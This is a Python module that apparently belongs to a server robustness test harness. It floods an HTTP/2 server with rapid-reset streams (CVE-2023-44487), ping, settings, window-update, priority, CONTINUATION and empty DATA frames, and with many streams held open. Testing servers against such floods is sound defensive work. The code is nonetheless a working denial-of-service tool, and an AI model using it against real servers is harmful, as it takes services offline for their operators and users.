"""Floods of frames on a few connections, as the reports on HTTP/2 servers of 2019, 2023 and 2024 describe them."""

import collections
import contextlib
import struct

import http2
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                   frame)

CONNECTIONS = 5


def run(attacks):
    count = attacks.size(1_000_000, 50_000)
    calls = attacks.size(200_000, 10_000)
    call = frame(HEADERS, END_HEADERS, 1, http2.request_headers(http2.CLASSIFY))
    reflection = frame(HEADERS, END_HEADERS, 1, http2.request_headers(http2.REFLECTION))
    ended = frame(HEADERS, END_HEADERS | END_STREAM, 1, http2.request_headers("/no/such"))
    reset = frame(RST_STREAM, 0, 1, struct.pack(">I", 8))
    empty = frame(HEADERS, END_HEADERS, 1, http2.request_headers(http2.CLASSIFY) + b"\0\1a\0" * 200)
    setting = frame(SETTINGS, payload=struct.pack(">HI", 4, 65535))
    floods = {
        "calls that are reset at once (CVE-2023-44487)": (calls, call + reset, True),
        "whole calls that are reset at once": (calls, call + frame(DATA, END_STREAM, 1, b"\0\0\0\0\3\x0a\1x") + reset, True),
        "calls of reflection that are reset at once": (calls, reflection + reset, True),
        "calls of a method that isn't there": (calls, ended, True),
        "calls with 200 headers, reset at once": (calls // 4, empty + reset, True),
        "calls that the server must reset": (calls, call + frame(WINDOW_UPDATE, 0, 1, bytes(4)), True),
        "pings whose answers aren't read": (count, frame(PING, payload=bytes(8)), False),
        "settings whose answers aren't read": (count, setting, False),
        "window updates": (count, frame(WINDOW_UPDATE, payload=b"\0\0\0\1"), False),
        "priorities": (count, frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"), False),
        "frames of an unknown kind": (count, frame(0x77, 0xFF, 1, b"x"), False),
    }
    for name, (times, frames, streams) in floods.items():
        attacks.attack(name, lambda times=times, frames=frames, streams=streams: _flood(attacks, times, frames, streams))
    attacks.attack("empty DATA frames in a call", lambda: _in_a_call(attacks, count, call, frame(DATA, 0, 1)))
    attacks.attack("empty CONTINUATION frames", lambda: _in_a_call(
        attacks, count, frame(HEADERS, 0, 1, http2.request_headers(http2.CLASSIFY)), frame(CONTINUATION, 0, 1)))
    attacks.attack("calls that are left open", lambda: _open_calls(attacks, call))
    attacks.attack("calls of reflection that are left open", lambda: _open_calls(attacks, reflection))


def _flood(attacks, times, frames, streams):
    """Over as many connections, one after the other, as the server closes."""
    answers, connections, sent = collections.Counter(), 0, 0
    batch = 500
    while sent < times and connections < 2000:
        with contextlib.closing(http2.Connection(attacks.server.address)) as connection:
            connections += 1
            stream = 1
            while sent < times and connection.open and stream < 2**30:
                if streams:
                    data = b"".join(http2.on_stream(frames, stream + 2 * i) for i in range(batch))
                    stream += 2 * batch
                else:
                    data = frames * batch
                if not connection.send(data):
                    break
                sent += batch
                if streams:
                    connection.read(0.001)
                if any(answer.startswith("GOAWAY") for answer in connection.answers):
                    break
            answers.update(connection.read(0.5 if sent >= times else 0))
    return f"{sent:,} over {connections:,} connections", answers or {"nothing": 1}


def _in_a_call(attacks, times, start, frames):
    with contextlib.closing(http2.Connection(attacks.server.address)) as connection:
        connection.send(start)
        sent = 0
        while sent < times and connection.send(frames * 1000):
            sent += 1000
        return f"{sent:,} of them", connection.read(1) or {"nothing": 1}


def _open_calls(attacks, call):
    """As many as the server lets a client open, on each of many connections, and nothing more."""
    answers, connections = collections.Counter(), attacks.size(100, 10)
    with contextlib.ExitStack() as stack:
        for _ in range(connections):
            connection = stack.enter_context(contextlib.closing(http2.Connection(attacks.server.address)))
            connection.read(0.05)
            for begin in range(0, 1000, 100):
                connection.send(b"".join(http2.on_stream(call, 1 + 2 * (begin + i)) for i in range(100)))
            answers.update(connection.read(0.05))
    return f"1,000 on each of {connections} connections", answers or {"nothing": 1}
